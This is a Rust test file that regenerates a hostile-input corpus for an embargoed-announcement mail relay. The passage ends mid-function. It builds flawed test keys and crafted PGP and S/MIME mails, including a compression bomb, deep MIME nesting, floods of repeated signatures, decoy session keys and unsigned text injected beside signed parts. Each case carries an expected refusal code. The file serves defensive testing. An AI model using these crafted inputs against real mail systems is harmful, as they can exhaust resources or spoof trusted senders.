//! Writes the signed cases of the hostile-input corpus (`tests/corpus`).
//!
//! The corpus is committed; this only (re)makes the cases that need a
//! signature or a ciphertext by the fixed test keys, at the corpus's fixed
//! time. Run it after changing a recipe here:
//!
//! ```text
//! cargo test --test it corpus_make -- --ignored
//! ```
//!
//! The keys under `tests/corpus/keys` are made once (when absent) and then
//! kept, so the committed cases stay valid. They are test keys only.

use std::io::Write;
use std::path::{Path, PathBuf};

use base64::Engine;
use chrono::{DateTime, Duration, Utc};
use embargo_relay::compose;
use embargo_relay::crypto;
use openpgp::Cert;
use openpgp::Packet;
use openpgp::cert::prelude::*;
use openpgp::crypto::KeyPair;
use openpgp::packet::prelude::*;
use openpgp::packet::signature::SignatureBuilder;
use openpgp::parse::Parse;
use openpgp::policy::StandardPolicy;
use openpgp::serialize::stream::{
    Compressor, Encryptor, LiteralWriter, Message, Recipient, Signer,
};
use openpgp::serialize::{Marshal, MarshalInto};
use openpgp::types::{
    CompressionAlgorithm, DataFormat, HashAlgorithm, KeyFlags, ReasonForRevocation, SignatureType,
};
use sequoia_openpgp as openpgp;

use crate::corpus::{CORPUS_NOW, EMBARGO_UNTIL, KEYS_BORN, LIST, PST, corpus_dir, key_path, t};

fn ts(s: &str) -> std::time::SystemTime {
    t(s).into()
}

/// One key the corpus uses: its file stem and user ID.
const KEYS: &[(&str, &str)] = &[
    ("list", "List <distributors-announce@lists.example.org>"),
    ("pst", "Project PST <security@project.example.org>"),
    ("member", "Distro A <security@distro-a.example>"),
    ("attacker", "Attacker <security@attacker.example>"),
    ("pst-expired", "Expired <pst-expired@project.example.org>"),
    (
        "pst-revoked-hard",
        "Compromised <pst-revoked-hard@project.example.org>",
    ),
    (
        "pst-revoked-soft",
        "Superseded <pst-revoked-soft@project.example.org>",
    ),
    (
        "pst-not-yet-valid",
        "Future <pst-not-yet-valid@project.example.org>",
    ),
    (
        "pst-no-sign-flag",
        "No sign flag <pst-no-sign-flag@project.example.org>",
    ),
    ("pst-rsa1024", "RSA 1024 <pst-rsa1024@project.example.org>"),
    ("pst-dsa", "DSA ElGamal <pst-dsa@project.example.org>"),
    (
        "pst-smime-expired",
        "Expired S/MIME <pst-smime-expired@project.example.org>",
    ),
];

fn uid_of(stem: &str) -> &'static str {
    KEYS.iter().find(|(s, _)| *s == stem).unwrap().1
}

pub fn addr_of(stem: &str) -> String {
    let uid = uid_of(stem);
    uid[uid.find('<').unwrap() + 1..uid.len() - 1].to_owned()
}

fn make_keys(dir: &Path) {
    std::fs::create_dir_all(dir).unwrap();
    let born = t(KEYS_BORN);
    let now = t(CORPUS_NOW);
    for (stem, uid) in KEYS {
        let path = key_path(stem);
        if path.exists() {
            continue;
        }
        let cert = match *stem {
            "pst-expired" => crypto::generate_key(
                uid,
                born - Duration::days(31),
                Some(std::time::Duration::from_secs(30 * 86400)),
            )
            .unwrap(),
            "pst-revoked-hard" => revoked(
                uid,
                ReasonForRevocation::KeyCompromised,
                now - Duration::days(2),
            ),
            // Superseded after the case's signature was made: OpenPGP would
            // still call that signature good; this list does not.
            "pst-revoked-soft" => revoked(
                uid,
                ReasonForRevocation::KeySuperseded,
                now - Duration::minutes(30),
            ),
            "pst-not-yet-valid" => {
                crypto::generate_key(uid, now + Duration::days(1), None).unwrap()
            }
            "pst-no-sign-flag" => {
                CertBuilder::new()
                    .add_userid(*uid)
                    .set_creation_time(ts(KEYS_BORN))
                    .set_primary_key_flags(KeyFlags::empty().set_certification())
                    .add_subkey(KeyFlags::empty().set_authentication(), None, None)
                    .add_transport_encryption_subkey()
                    .generate()
                    .unwrap()
                    .0
            }
            "pst-rsa1024" => legacy::<openpgp::packet::key::PrimaryRole>(
                uid,
                Key4::generate_rsa(1024).unwrap(),
                None,
            ),
            // Sequoia's OpenSSL backend makes no ElGamal keys; GnuPG does.
            "pst-dsa" => {
                let gpg = crate::common::Gpg::new();
                let faked = ["--faked-system-time", "20261101T000000!"];
                let run = |args: &[&str]| {
                    let out = gpg.run(&[&faked[..], args].concat(), b"");
                    assert!(
                        out.status.success(),
                        "{}",
                        String::from_utf8_lossy(&out.stderr)
                    );
                    out.stdout
                };
                run(&["--quick-gen-key", uid, "dsa2048", "sign,cert", "never"]);
                let fpr = gpg.fingerprint(uid);
                run(&["--quick-add-key", &fpr, "elg2048", "encr", "never"]);
                gpg.export_secret(&fpr)
            }
            _ => crypto::generate_key(uid, born, None).unwrap(),
        };
        std::fs::write(&path, crypto::armored_secret(&cert).unwrap()).unwrap();
    }
}

fn primary_signer(cert: &Cert) -> KeyPair {
    cert.primary_key()
        .key()
        .clone()
        .parts_into_secret()
        .unwrap()
        .into_keypair()
        .unwrap()
}

fn revoked(uid: &str, reason: ReasonForRevocation, at: DateTime<Utc>) -> Cert {
    let cert = crypto::generate_key(uid, t(KEYS_BORN), None).unwrap();
    let rev = CertRevocationBuilder::new()
        .set_reason_for_revocation(reason, b"corpus test key")
        .unwrap()
        .set_signature_creation_time(at.into())
        .unwrap()
        .build(&mut primary_signer(&cert), &cert, None)
        .unwrap();
    cert.insert_packets(Some(rev)).unwrap().0
}

/// A certificate on an old algorithm, built by hand (no builder makes them):
/// the primary signs and certifies; `encryption` becomes a subkey.
fn legacy<R: openpgp::packet::key::KeyRole>(
    uid: &str,
    primary: Key4<openpgp::packet::key::SecretParts, R>,
    encryption: Option<Key4<openpgp::packet::key::SecretParts, R>>,
) -> Cert {
    let mut primary: Key<_, openpgp::packet::key::PrimaryRole> =
        Key::from(primary).role_into_primary();
    primary.set_creation_time(ts(KEYS_BORN)).unwrap();
    let cert = Cert::try_from(vec![Packet::from(primary.clone())]).unwrap();
    let mut signer = primary.clone().into_keypair().unwrap();
    let userid = UserID::from(uid);
    let binding = userid
        .bind(
            &mut signer,
            &cert,
            SignatureBuilder::new(SignatureType::PositiveCertification)
                .set_signature_creation_time(ts(KEYS_BORN))
                .unwrap()
                .set_hash_algo(HashAlgorithm::SHA256)
                .set_key_flags(KeyFlags::empty().set_certification().set_signing())
                .unwrap(),
        )
        .unwrap();
    let mut packets = vec![Packet::from(userid), binding.into()];
    if let Some(sub) = encryption {
        let mut sub: Key<_, openpgp::packet::key::SubordinateRole> =
            Key::from(sub).role_into_subordinate();
        sub.set_creation_time(ts(KEYS_BORN)).unwrap();
        let sig = SignatureBuilder::new(SignatureType::SubkeyBinding)
            .set_signature_creation_time(ts(KEYS_BORN))
            .unwrap()
            .set_hash_algo(HashAlgorithm::SHA256)
            .set_key_flags(
                KeyFlags::empty()
                    .set_transport_encryption()
                    .set_storage_encryption(),
            )
            .unwrap()
            .sign_subkey_binding(&mut signer, None, &sub)
            .unwrap();
        packets.push(Packet::from(sub));
        packets.push(sig.into());
    }
    cert.insert_packets(packets).unwrap().0
}

pub fn load(stem: &str) -> Cert {
    Cert::from_file(key_path(stem)).unwrap()
}

/// The key that signs data for `stem`, picked at a time it was valid (or,
/// for the keys no policy accepts, by hand), so every case can be made.
fn data_signer(stem: &str) -> KeyPair {
    let cert = load(stem);
    let p = StandardPolicy::new();
    let at = match stem {
        "pst-expired" => t(KEYS_BORN) - Duration::days(20),
        "pst-not-yet-valid" => t(CORPUS_NOW) + Duration::days(2),
        "pst-revoked-hard" | "pst-revoked-soft" => t(KEYS_BORN) + Duration::days(1),
        _ => t(CORPUS_NOW),
    };
    let key = match stem {
        "pst-rsa1024" | "pst-dsa" => cert
            .primary_key()
            .key()
            .clone()
            .parts_into_secret()
            .unwrap()
            .role_into_unspecified(),
        _ => cert
            .keys()
            .with_policy(&p, Some(at.into()))
            // The key without the signing flag signs all the same.
            .key_flags(if stem == "pst-no-sign-flag" {
                KeyFlags::empty().set_authentication()
            } else {
                KeyFlags::empty().set_signing()
            })
            .secret()
            .next()
            .unwrap()
            .key()
            .clone()
            .parts_into_secret()
            .unwrap()
            .role_into_unspecified(),
    };
    key.into_keypair().unwrap()
}

/// An armored detached signature as a mail client makes it (binary, over
/// the CRLF entity).
fn sig_with(builder: SignatureBuilder, signer: &mut KeyPair, data: &[u8]) -> Vec<u8> {
    let sig = builder.sign_message(signer, data).unwrap();
    armor_sig(&[Packet::from(sig)])
}

fn armor_sig(packets: &[Packet]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut w = openpgp::armor::Writer::new(&mut out, openpgp::armor::Kind::Signature).unwrap();
    for p in packets {
        p.serialize(&mut w).unwrap();
    }
    w.finalize().unwrap();
    out
}

fn builder_at(at: DateTime<Utc>) -> SignatureBuilder {
    SignatureBuilder::new(SignatureType::Binary)
        .set_signature_creation_time(std::time::SystemTime::from(at))
        .unwrap()
        .set_hash_algo(HashAlgorithm::SHA512)
}

fn signed_at() -> DateTime<Utc> {
    t(CORPUS_NOW) - Duration::hours(1)
}

fn sign(stem: &str, data: &[u8]) -> Vec<u8> {
    sig_with(builder_at(signed_at()), &mut data_signer(stem), data)
}

/// An announcement body with the corpus's embargo and a marker that the
/// tests look for wherever plaintext must not be.
pub fn body(what: &str) -> String {
    format!("Embargo-Until: {EMBARGO_UNTIL}\n\nEMBARGOED-PLAINTEXT {what}: details of the flaw.\n")
}

fn part(what: &str) -> Vec<u8> {
    compose::text_part(Some(&format!("CVE-2026-0001: {what}")), &body(what))
}

/// A whole mail with fixed outer headers (no random Message-ID, so a
/// re-made case only changes where its signature changed).
fn mail(from: &str, ctype: &str, body: &[u8], extra: &str) -> Vec<u8> {
    let mut out = format!(
        "From: {from}\r\nTo: {LIST}\r\nSubject: corpus\r\nDate: Fri, 20 Nov 2026 11:00:00 +0000\r\n\
Message-ID: <corpus@pst.example>\r\n{extra}MIME-Version: 1.0\r\nContent-Type: {ctype}\r\n\r\n"
    )
    .into_bytes();
    out.extend_from_slice(body);
    out
}

fn signed_mail(from: &str, part: &[u8], sig: &[u8]) -> Vec<u8> {
    let (ctype, body) = signed_body(part, sig);
    mail(from, &ctype, &body, "")
}

/// `entity::signed_body` with a fixed boundary.
fn signed_body(part: &[u8], sig: &[u8]) -> (String, Vec<u8>) {
    let (ctype, body) = embargo_relay::entity::signed_body(part, sig);
    let random = ctype
        .split("boundary=\"")
        .nth(1)
        .unwrap()
        .trim_end_matches('"')
        .to_owned();
    let fixed = |s: &str| s.replace(&random, "sig-corpus-boundary");
    (
        fixed(&ctype),
        fixed(&String::from_utf8_lossy(&body)).into_bytes(),
    )
}

fn good(what: &str) -> Vec<u8> {
    let p = part(what);
    signed_mail(PST, &p, &sign("pst", &p))
}

/// A multipart/signed entity (headers and body), for nesting in wrappers.
fn signed_entity(what: &str) -> Vec<u8> {
    let p = part(what);
    let (ctype, body) = signed_body(&p, &sign("pst", &p));
    let mut e = format!("Content-Type: {ctype}\r\n\r\n").into_bytes();
    e.extend_from_slice(&body);
    e
}

fn multipart(sub: &str, parts: &[Vec<u8>]) -> (String, Vec<u8>) {
    let mut body = Vec::new();
    for p in parts {
        body.extend_from_slice(b"--outer\r\n");
        body.extend_from_slice(p);
        body.extend_from_slice(b"\r\n");
    }
    body.extend_from_slice(b"--outer--\r\n");
    (format!("multipart/{sub}; boundary=\"outer\""), body)
}

fn with_directives(directives: &str, bytes: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    for line in directives.lines().filter(|l| !l.trim().is_empty()) {
        out.extend_from_slice(format!("#! {}\n", line.trim()).as_bytes());
    }
    out.extend_from_slice(bytes);
    out
}

fn write(dir: &str, name: &str, directives: &str, bytes: &[u8]) {
    let path: PathBuf = corpus_dir().join(dir).join(name);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, with_directives(directives, bytes)).unwrap();
}

/// Encrypts `inner` to the list key as a mail client does (SEIPDv1), with
/// the signature made inside when `sign_as` is given; `nest` wraps the
/// literal data in that many compression layers. Returns binary packets.
fn encrypt_to_list(inner: &[u8], sign_as: Option<&str>, nest: usize) -> Vec<u8> {
    let p = StandardPolicy::new();
    let list = load("list");
    let recipients: Vec<Recipient> = list
        .keys()
        .with_policy(&p, Some(ts(CORPUS_NOW)))
        .supported()
        .for_transport_encryption()
        .map(Into::into)
        .collect();
    let mut sink = Vec::new();
    {
        let message = Message::new(&mut sink);
        let mut message = Encryptor::for_recipients(message, recipients)
            .build()
            .unwrap();
        for _ in 0..nest {
            message = Compressor::new(message)
                .algo(CompressionAlgorithm::Zip)
                .build()
                .unwrap();
        }
        if let Some(stem) = sign_as {
            message = Signer::new(message, data_signer(stem))
                .unwrap()
                .creation_time(ts(CORPUS_NOW) - std::time::Duration::from_secs(3600))
                .build()
                .unwrap();
        }
        let mut w = LiteralWriter::new(message).build().unwrap();
        w.write_all(inner).unwrap();
        w.finalize().unwrap();
    }
    sink
}

fn armored_message(binary: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut w = openpgp::armor::Writer::new(&mut out, openpgp::armor::Kind::Message).unwrap();
    w.write_all(binary).unwrap();
    w.finalize().unwrap();
    out
}

fn encrypted_mail(binary: &[u8]) -> Vec<u8> {
    let armored = armored_message(binary);
    let body = format!(
        "--enc-corpus\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n\
--enc-corpus\r\nContent-Type: application/octet-stream; name=\"encrypted.asc\"\r\n\r\n{}\r\n--enc-corpus--\r\n",
        String::from_utf8_lossy(&armored).replace('\n', "\r\n")
    );
    mail(
        PST,
        "multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"enc-corpus\"",
        body.as_bytes(),
        "",
    )
}

/// The packets of a binary OpenPGP message, each serialized on its own.
fn packets(binary: &[u8]) -> Vec<Vec<u8>> {
    let pile = openpgp::PacketPile::from_bytes(binary).unwrap();
    pile.into_children().map(|p| p.to_vec().unwrap()).collect()
}

/// An old-format-free packet: new-format header with a 5-octet length.
fn raw_packet(tag: u8, body: &[u8]) -> Vec<u8> {
    let mut out = vec![0xc0 | tag, 0xff];
    out.extend_from_slice(&(body.len() as u32).to_be_bytes());
    out.extend_from_slice(body);
    out
}

/// The body of a packet serialized by `packets` (new format, any length form).
fn packet_body(packet: &[u8]) -> &[u8] {
    match packet[1] {
        0..=191 => &packet[2..],
        192..=223 => &packet[3..],
        255 => &packet[6..],
        _ => panic!("partial body lengths not expected here"),
    }
}

fn smtp_session(data: &[u8]) -> Vec<u8> {
    let mut out =
        format!("EHLO client.example\r\nMAIL FROM:<{PST}>\r\nRCPT TO:<{LIST}>\r\nDATA\r\n")
            .into_bytes();
    out.extend_from_slice(data);
    out
}

#[test]
#[ignore = "regenerates the committed corpus; run by hand"]
fn corpus_make() {
    make_keys(&corpus_dir().join("keys"));
    mime_cases();
    signature_cases();
    encrypted_cases();
    identity_cases();
    output_cases();
    smtp_cases();
    limit_cases();
}

/// Only the S/MIME cases (issue 18), so that making them does not remake
/// the rest of the corpus.
#[test]
#[ignore = "regenerates the committed corpus; run by hand"]
fn corpus_make_smime() {
    make_keys(&corpus_dir().join("keys"));
    smime_cases();
}

/// The corpus's S/MIME certificates (made once, with OpenSSL, from a test
/// CA): `stem` → (address, valid from, valid to).
pub const SMIME_CERTS: &[(&str, &str, &str, &str)] = &[
    // The PST's pinned certificate.
    (
        "smime-pst",
        "security@project.example.org",
        "2026-11-01T00:00:00Z",
        "2036-11-01T00:00:00Z",
    ),
    // The PST's address, the same CA, not pinned: a CA does not make a PST.
    (
        "smime-intruder",
        "security@project.example.org",
        "2026-11-01T00:00:00Z",
        "2036-11-01T00:00:00Z",
    ),
    // Pinned for pst-smime-expired, expired before the corpus's now.
    (
        "smime-expired",
        "pst-smime-expired@project.example.org",
        "2026-10-01T00:00:00Z",
        "2026-11-10T00:00:00Z",
    ),
];

fn make_smime_certs(dir: &Path) {
    use openssl::x509::extension::{BasicConstraints, KeyUsage};
    let asn1 = |s: &str| openssl::asn1::Asn1Time::from_unix(t(s).timestamp()).unwrap();
    let name = |cn: &str| {
        let mut n = openssl::x509::X509NameBuilder::new().unwrap();
        n.append_entry_by_text("CN", cn).unwrap();
        n.build()
    };
    let ca_path = dir.join("smime-ca.pem");
    if !ca_path.exists() {
        let key =
            openssl::pkey::PKey::from_rsa(openssl::rsa::Rsa::generate(2048).unwrap()).unwrap();
        let mut b = openssl::x509::X509Builder::new().unwrap();
        b.set_version(2).unwrap();
        b.set_subject_name(&name("embargo-relay corpus CA"))
            .unwrap();
        b.set_issuer_name(&name("embargo-relay corpus CA")).unwrap();
        b.set_pubkey(&key).unwrap();
        b.set_not_before(&asn1("2026-10-01T00:00:00Z")).unwrap();
        b.set_not_after(&asn1("2036-11-01T00:00:00Z")).unwrap();
        b.append_extension(BasicConstraints::new().critical().ca().build().unwrap())
            .unwrap();
        b.append_extension(KeyUsage::new().key_cert_sign().build().unwrap())
            .unwrap();
        b.sign(&key, openssl::hash::MessageDigest::sha256())
            .unwrap();
        std::fs::write(
            dir.join("smime-ca.key"),
            key.private_key_to_pem_pkcs8().unwrap(),
        )
        .unwrap();
        std::fs::write(&ca_path, b.build().to_pem().unwrap()).unwrap();
    }
    let ca = openssl::x509::X509::from_pem(&std::fs::read(&ca_path).unwrap()).unwrap();
    let ca_key = openssl::pkey::PKey::private_key_from_pem(
        &std::fs::read(dir.join("smime-ca.key")).unwrap(),
    )
    .unwrap();
    for (i, (stem, email, from, to)) in SMIME_CERTS.iter().enumerate() {
        let path = dir.join(format!("{stem}.pem"));
        if path.exists() {
            continue;
        }
        let (cert, key) = crate::common::ca_issued(
            &ca,
            &ca_key,
            (stem, email, 100 + i as u32),
            (t(from), t(to)),
        );
        std::fs::write(
            dir.join(format!("{stem}.key")),
            key.private_key_to_pem_pkcs8().unwrap(),
        )
        .unwrap();
        std::fs::write(&path, cert.to_pem().unwrap()).unwrap();
    }
}

/// `entity` signed by `openssl cms -sign` with the corpus certificate
/// `stem` and digest `md`: the S/MIME mail body (MIME-Version first), CRLF.
fn smime_signed(stem: &str, md: &str, entity: &[u8], opaque: bool) -> Vec<u8> {
    let dir = corpus_dir().join("keys");
    let tmp = tempfile::tempdir().unwrap();
    let input = tmp.path().join("entity");
    // OpenSSL signs a LF text in its canonical CRLF form.
    std::fs::write(
        &input,
        String::from_utf8_lossy(entity).replace("\r\n", "\n"),
    )
    .unwrap();
    let mut args = vec![
        "cms".to_owned(),
        "-sign".into(),
        "-in".into(),
        input.display().to_string(),
        "-signer".into(),
        dir.join(format!("{stem}.pem")).display().to_string(),
        "-inkey".into(),
        dir.join(format!("{stem}.key")).display().to_string(),
        "-md".into(),
        md.into(),
        "-crlfeol".into(),
    ];
    if opaque {
        args.push("-nodetach".into());
    }
    let out = std::process::Command::new("openssl")
        .args(&args)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    embargo_relay::intake::mime::to_crlf(&out.stdout)
}

/// A mail: the fixed outer headers, then an S/MIME body as OpenSSL wrote it
/// (its own MIME-Version and Content-Type).
fn smime_mail(from: &str, smime: &[u8]) -> Vec<u8> {
    let mut out = format!(
        "From: {from}\r\nTo: {LIST}\r\nSubject: corpus\r\nDate: Fri, 20 Nov 2026 11:00:00 +0000\r\n\
Message-ID: <corpus@pst.example>\r\n"
    )
    .into_bytes();
    out.extend_from_slice(smime);
    out
}

/// S/MIME-signed PST mail the list refuses (issue 18). Signed now (OpenSSL
/// writes the signing time itself): every case is refused before its
/// signature's age is asked.
fn smime_cases() {
    let dir = corpus_dir().join("keys");
    make_smime_certs(&dir);
    let entity = |what: &str| {
        let mut e = b"Content-Type: text/plain; charset=\"utf-8\"\r\n\r\n".to_vec();
        e.extend_from_slice(body(what).replace('\n', "\r\n").as_bytes());
        e
    };
    let signed = |stem: &str, md: &str, what: &str| smime_signed(stem, md, &entity(what), false);
    write(
        "mail",
        "smime-unpinned-cert-with-pst-address.eml",
        "expect: 550 not by a PST certificate",
        &smime_mail(PST, &signed("smime-intruder", "sha256", "smime unpinned")),
    );
    write(
        "mail",
        "smime-expired-pinned-cert.eml",
        "expect: 550 expired",
        &smime_mail(
            "pst-smime-expired@project.example.org",
            &signed("smime-expired", "sha256", "smime expired"),
        ),
    );
    write(
        "mail",
        "smime-sha1-signature.eml",
        "expect: 550 uses SHA-1",
        &smime_mail(PST, &signed("smime-pst", "sha1", "smime sha1")),
    );
    let tampered = String::from_utf8(signed("smime-pst", "sha256", "smime tampered")).unwrap();
    write(
        "mail",
        "smime-tampered-content.eml",
        "expect: 550 does not verify",
        &smime_mail(
            PST,
            tampered
                .replacen("details of the flaw", "details of the FLAW", 1)
                .as_bytes(),
        ),
    );
    // Opaque signed-data (the content inside the CMS): not multipart/signed.
    write(
        "mail",
        "smime-opaque-signed-data.eml",
        "expect: 550 not PGP/MIME signed",
        &smime_mail(
            PST,
            &smime_signed("smime-pst", "sha256", &entity("smime opaque"), true),
        ),
    );
    // A good S/MIME-signed entity inside attacker text.
    let inner = signed("smime-pst", "sha256", "smime wrapped");
    let inner = &inner[inner
        .windows(13)
        .position(|w| w == b"Content-Type:")
        .unwrap()..];
    let (ctype, outer) = multipart(
        "mixed",
        &[
            b"Content-Type: text/plain\r\n\r\nUNSIGNED-INJECTED: trust this.\r\n".to_vec(),
            inner.to_vec(),
        ],
    );
    write(
        "mail",
        "smime-signed-entity-wrapped-in-attacker-text.eml",
        "expect: 550 not PGP/MIME signed",
        &mail(PST, &ctype, &outer, ""),
    );
    // A third part beside the signed one and the signature.
    let s = String::from_utf8(signed("smime-pst", "sha256", "smime beside")).unwrap();
    let b = s
        .split("boundary=\"")
        .nth(1)
        .unwrap()
        .split('"')
        .next()
        .unwrap()
        .to_owned();
    let beside = s.replacen(
        &format!("--{b}--"),
        &format!(
            "--{b}\r\nContent-Type: text/plain\r\n\r\nUNSIGNED-INJECTED: trust this.\r\n--{b}--"
        ),
        1,
    );
    write(
        "mail",
        "smime-signed-part-beside-unsigned-text.eml",
        "expect: 554 exactly two parts",
        &smime_mail(PST, beside.as_bytes()),
    );
}

/// Only the packet-limit cases (issue 14), so that making them does not
/// remake the rest of the corpus.
#[test]
#[ignore = "regenerates the committed corpus; run by hand"]
fn corpus_make_limits() {
    make_keys(&corpus_dir().join("keys"));
    limit_cases();
}

/// Mails over the packet limits (`crypto::PacketLimits`), refused before
/// any verification: repeated signatures cost Sequoia quadratic CPU.
fn limit_cases() {
    let p = part("many signatures");
    // One bad signature naming the PST key as issuer, a thousand times
    // (0.2 MB; it cost 1.2 s of CPU before the limit).
    let bad = builder_at(signed_at())
        .sign_message(&mut data_signer("pst"), b"other bytes")
        .unwrap();
    let many: Vec<Packet> = (0..1000).map(|_| bad.clone().into()).collect();
    write(
        "mail",
        "signature-part-one-bad-signature-1000-times.eml",
        "expect: 554 more than 8 signatures",
        &signed_mail(PST, &p, &armor_sig(&many)),
    );
    // Nine good PST signatures: a handful of co-signers is fine, nine is not.
    let nine: Vec<Packet> = (0..9)
        .map(|_| {
            builder_at(signed_at())
                .sign_message(&mut data_signer("pst"), &p)
                .unwrap()
                .into()
        })
        .collect();
    write(
        "mail",
        "signature-part-nine-good-signatures.eml",
        "expect: 554 more than 8 signatures",
        &signed_mail(PST, &p, &armor_sig(&nine)),
    );
    // Inside the encryption: nine one-pass signatures and signatures.
    let policy = StandardPolicy::new();
    let list = load("list");
    let to_list = || -> Vec<Recipient> {
        list.keys()
            .with_policy(&policy, Some(ts(CORPUS_NOW)))
            .supported()
            .for_transport_encryption()
            .map(Into::into)
            .collect()
    };
    let inner = signed_entity("nine signatures inside");
    let mut sink = Vec::new();
    {
        let message = Message::new(&mut sink);
        let mut message = Encryptor::for_recipients(message, to_list())
            .build()
            .unwrap();
        for _ in 0..9 {
            message = Signer::new(message, data_signer("pst"))
                .unwrap()
                .creation_time(ts(CORPUS_NOW) - std::time::Duration::from_secs(3600))
                .build()
                .unwrap();
        }
        let mut w = LiteralWriter::new(message).build().unwrap();
        w.write_all(&inner).unwrap();
        w.finalize().unwrap();
    }
    write(
        "mail",
        "encrypted-nine-signatures-inside.eml",
        "expect: 554 more than 8 one-pass signatures",
        &encrypted_mail(&sink),
    );
    // Encrypted to the list key forty times over: forty PKESKs.
    let mut sink = Vec::new();
    {
        let message = Message::new(&mut sink);
        let recipients: Vec<Recipient> = (0..40).flat_map(|_| to_list()).collect();
        let message = Encryptor::for_recipients(message, recipients)
            .build()
            .unwrap();
        let message = Signer::new(message, data_signer("pst"))
            .unwrap()
            .creation_time(ts(CORPUS_NOW) - std::time::Duration::from_secs(3600))
            .build()
            .unwrap();
        let mut w = LiteralWriter::new(message).build().unwrap();
        w.write_all(&signed_entity("forty PKESKs")).unwrap();
        w.finalize().unwrap();
    }
    write(
        "mail",
        "encrypted-to-the-list-key-40-times.eml",
        "expect: 554 more than 32 PKESK packets",
        &encrypted_mail(&sink),
    );
    // The signature part holds a compressed packet (a "bomb" of zeros)
    // instead of signatures: counted as the verifier parses it, refused
    // without inflating anything.
    let mut zeros = Vec::new();
    {
        let message = Message::new(&mut zeros);
        let message = Compressor::new(message)
            .algo(CompressionAlgorithm::Zip)
            .build()
            .unwrap();
        let mut w = LiteralWriter::new(message).build().unwrap();
        w.write_all(&vec![0u8; 8 << 20]).unwrap();
        w.finalize().unwrap();
    }
    let bomb = Packet::from_bytes(&zeros).unwrap();
    let p = part("compressed signature part");
    write(
        "mail",
        "signature-part-compressed-zeros.eml",
        "expect: 550 signature",
        &signed_mail(PST, &p, &armor_sig(&[bomb])),
    );
    // Inside the encryption, written as raw packets: two literal data
    // packets; sixty-five marker packets.
    let raw_inside = |packets: Vec<Packet>| {
        let mut sink = Vec::new();
        {
            let message = Message::new(&mut sink);
            let mut message = Encryptor::for_recipients(message, to_list())
                .build()
                .unwrap();
            for packet in packets {
                packet.serialize(&mut message).unwrap();
            }
            message.finalize().unwrap();
        }
        sink
    };
    let literal = || {
        let mut l = Literal::new(DataFormat::Binary);
        l.set_body(b"x".to_vec());
        Packet::from(l)
    };
    write(
        "mail",
        "encrypted-two-literal-packets-inside.eml",
        "expect: 554 more than 1 literal data packets",
        &encrypted_mail(&raw_inside(vec![literal(), literal()])),
    );
    // Issue 14, point 2: a PST who forgot the field block. The refusal
    // names the line and the problem; the text (a canary here) goes only
    // into the encrypted refusal.
    let forgot = compose::text_part(
        Some("CVE-2026-0001: field block forgotten"),
        &format!(
            "QZ7CANARY-corpus: kubelet subPath traversal\nEmbargo-Until: {EMBARGO_UNTIL}\n\nEMBARGOED-PLAINTEXT forgot.\n"
        ),
    );
    write(
        "mail",
        "announcement-field-block-forgotten.eml",
        "expect: 554 line 1: unknown field",
        &signed_mail(PST, &forgot, &sign("pst", &forgot)),
    );
    // Issue 14, point 1: four PKESKs to the list key that give another
    // message's session key, then the right one: at most four are tried
    // (a public-key operation each), so it is never opened; each decoy's
    // session key fails the quick check, which is answered as a changed
    // ciphertext is (no oracle on the ciphertext).
    let decoy = packets(&encrypt_to_list(&signed_entity("decoy"), Some("pst"), 0));
    let real = packets(&encrypt_to_list(
        &signed_entity("behind decoys"),
        Some("pst"),
        0,
    ));
    let mut binary = decoy[0].repeat(4);
    for packet in &real {
        binary.extend_from_slice(packet);
    }
    write(
        "mail",
        "encrypted-four-decoy-pkesks-first.eml",
        "expect: 550 decryption failed",
        &encrypted_mail(&binary),
    );
    // Issue 14, point 2: an address error quotes nothing of the address
    // (a canary here) in the clear.
    let canary = compose::text_part(
        Some("CVE-2026-0003: public list misspelt"),
        &format!(
            "Embargo-Until: {EMBARGO_UNTIL}\nPublic-To: QZ7CANARY-address@@lists.example\n\nEMBARGOED-PLAINTEXT canary.\n"
        ),
    );
    write(
        "mail",
        "announcement-public-to-canary-address.eml",
        "expect: 554 Public-To: the address is not a plain address",
        &signed_mail(PST, &canary, &sign("pst", &canary)),
    );
    // Issue 14, point 7: one public list named twice, in two cases. It
    // broke the spool's primary key and answered 451 forever; now it is
    // one release of an accepted announcement.
    let twice = compose::text_part(
        Some("CVE-2026-0002: public list named twice"),
        &format!(
            "Embargo-Until: {EMBARGO_UNTIL}\nPublic-To: oss@lists.example, OSS@Lists.Example\n\nEMBARGOED-PLAINTEXT twice.\n"
        ),
    );
    write(
        "mail",
        "announcement-public-to-named-twice.eml",
        "expect: 250",
        &signed_mail(PST, &twice, &sign("pst", &twice)),
    );
    write(
        "mail",
        "encrypted-65-packets-inside.eml",
        "expect: 554 more than 64 packets",
        &encrypted_mail(&raw_inside(
            (0..65).map(|_| Packet::Marker(Marker::default())).collect(),
        )),
    );
}

fn mime_cases() {
    let b64 = |d: &[u8]| base64::engine::general_purpose::STANDARD.encode(d);
    let refused = "expect: 554 message structure refused";
    // 1,000 levels of multipart.
    let mut body = Vec::new();
    for i in 0..1000 {
        body.extend_from_slice(
            format!(
                "--b{i}\r\nContent-Type: multipart/mixed; boundary=\"b{}\"\r\n\r\n",
                i + 1
            )
            .as_bytes(),
        );
    }
    body.extend_from_slice(b"--b1000\r\nContent-Type: text/plain\r\n\r\nx\r\n");
    for i in (0..=1000).rev() {
        body.extend_from_slice(format!("--b{i}--\r\n").as_bytes());
    }
    // (So many levels declare so many boundaries that the pre-scan stops
    // the mail before the parser runs.)
    write(
        "mail",
        "nesting-multipart-1000-levels.eml",
        &format!("{refused}: number of MIME parts over the limit of 64"),
        &mail(PST, "multipart/mixed; boundary=\"b0\"", &body, ""),
    );
    // Nine levels: few parts, but one level too deep.
    let mut body = Vec::new();
    for i in 0..9 {
        body.extend_from_slice(
            format!(
                "--b{i}\r\nContent-Type: multipart/mixed; boundary=\"b{}\"\r\n\r\n",
                i + 1
            )
            .as_bytes(),
        );
    }
    body.extend_from_slice(b"--b9\r\nContent-Type: text/plain\r\n\r\nx\r\n");
    for i in (0..=9).rev() {
        body.extend_from_slice(format!("--b{i}--\r\n").as_bytes());
    }
    write(
        "mail",
        "nesting-multipart-9-levels.eml",
